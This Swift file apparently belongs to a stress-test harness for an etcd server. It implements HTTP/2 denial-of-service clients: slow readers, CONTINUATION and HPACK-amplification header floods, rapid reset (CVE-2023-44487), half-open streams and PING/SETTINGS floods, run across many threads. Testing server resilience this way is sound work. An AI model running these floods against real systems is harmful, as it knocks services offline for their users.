import Foundation
import Synchronization

/// A kind of client that means harm, as often as it is let.
enum Attack: String, CaseIterable, Sendable {
    /// Watches everything and never reads.
    case slowReaders
    /// Header lists without an end, and small ones that unpack to large ones.
    case headerFloods
    /// Calls that are reset as soon as they are opened (CVE-2023-44487).
    case rapidResets
    /// Connections that say half of something and then nothing.
    case halfOpen
    /// PING and SETTINGS, which want an answer each.
    case controlFloods

    /// Connections of one attacker at once.
    private var keptMax: Int { self == .slowReaders ? 20 : 200 }

    /// Does harm until it is told to stop. A connection that the member closes is opened again.
    ///
    /// - Returns: connections that the member closed.
    func run(against host: String, until stops: () -> Bool) -> Int {
        var closed = 0
        var kept: [HTTP2Peer] = []
        while !stops() {
            do {
                let peer = try HTTP2Peer(host, seconds: 2)
                try perform(over: peer, until: stops)
                if kept.count < keptMax { kept.append(peer) } else { pause(0.02) }
            } catch {
                closed += 1
            }
        }
        return closed
    }

    private func perform(over peer: HTTP2Peer, until stops: () -> Bool) throws {
        switch self {
        case .slowReaders:
            let everything = HTTP2Peer.field(1, HTTP2Peer.field(1, [0]) + HTTP2Peer.field(2, [0]))
            for _ in 0..<10 { try peer.call("/etcdserverpb.Watch/Watch", [everything], ends: false) }
            pause(0.05)
        case .headerFloods: try floodHeaders(peer, until: stops)
        case .rapidResets:
            for start in stride(from: UInt32(1), to: 1_000_000, by: 200) where !stops() {
                var bytes: [UInt8] = []
                for stream in stride(from: start, to: start + 200, by: 2) {
                    bytes += HTTP2Peer.head("/etcdserverpb.KV/Range", stream: stream)
                    bytes += HTTP2Peer.frame(type: 3, stream: stream, HTTP2Peer.uint32(8))
                }
                try peer.send(bytes)
            }
        case .halfOpen:
            try peer.send(Array(HTTP2Peer.head("/etcdserverpb.KV/Put", stream: 1).dropLast(3)))
            pause(0.005)
        case .controlFloods:
            let ping = HTTP2Peer.frame(type: 6, stream: 0, [0, 0, 0, 0, 0, 0, 0, 1])
            let settings = HTTP2Peer.frame(type: 4, stream: 0, [0, 4, 0, 0, 0xFF, 0xFF])
            let burst = (0..<200).flatMap { _ in ping + settings }
            while !stops() { try peer.send(burst) }
        }
    }

    /// Half of the connections never end their header list, the others fill HPACK's table and refer to it.
    private func floodHeaders(_ peer: HTTP2Peer, until stops: () -> Bool) throws {
        if Bool.random() {
            try peer.send(HTTP2Peer.frame(type: 1, stream: 1, HTTP2Peer.field(":method", "POST")))
            let field = HTTP2Peer.field("x", String(repeating: "y", count: 120))
            let block = (0..<100).flatMap { _ in field }
            while !stops() { try peer.send(HTTP2Peer.frame(type: 9, stream: 1, block)) }
        }
        // Indexed at its first use; then one byte stands for four kilobytes.
        var block: [UInt8] = [0x40, 1, UInt8(ascii: "x"), 0x7F, 0xE1, 0x1E] + [UInt8](repeating: 0x61, count: 4_000)
        block += [UInt8](repeating: 0xBE, count: 10_000)
        for stream in stride(from: UInt32(1), to: 100_000, by: 2) where !stops() {
            try peer.send(HTTP2Peer.frame(type: 1, flags: 5, stream: stream, block))
        }
    }
}

/// Attackers on threads of their own.
final class Attackers: Sendable {
    private struct State {
        var isStopping = false
        var closed = 0
    }

    private let state = Mutex(State())
    private let ended = DispatchSemaphore(value: 0)
    private let count: Int

    init(_ attack: Attack, count: Int, host: String) {
        self.count = count
        for _ in 0..<count {
            Thread.detachNewThread { [self] in
                let closed = attack.run(against: host) { state.withLock { $0.isStopping } }
                state.withLock { $0.closed += closed }
                ended.signal()
            }
        }
    }

    /// - Returns: connections that the member closed.
    func stop() -> Int {
        state.withLock { $0.isStopping = true }
        for _ in 0..<count { _ = ended.wait(timeout: .now() + 10) }
        return state.withLock { $0.closed }
    }
}
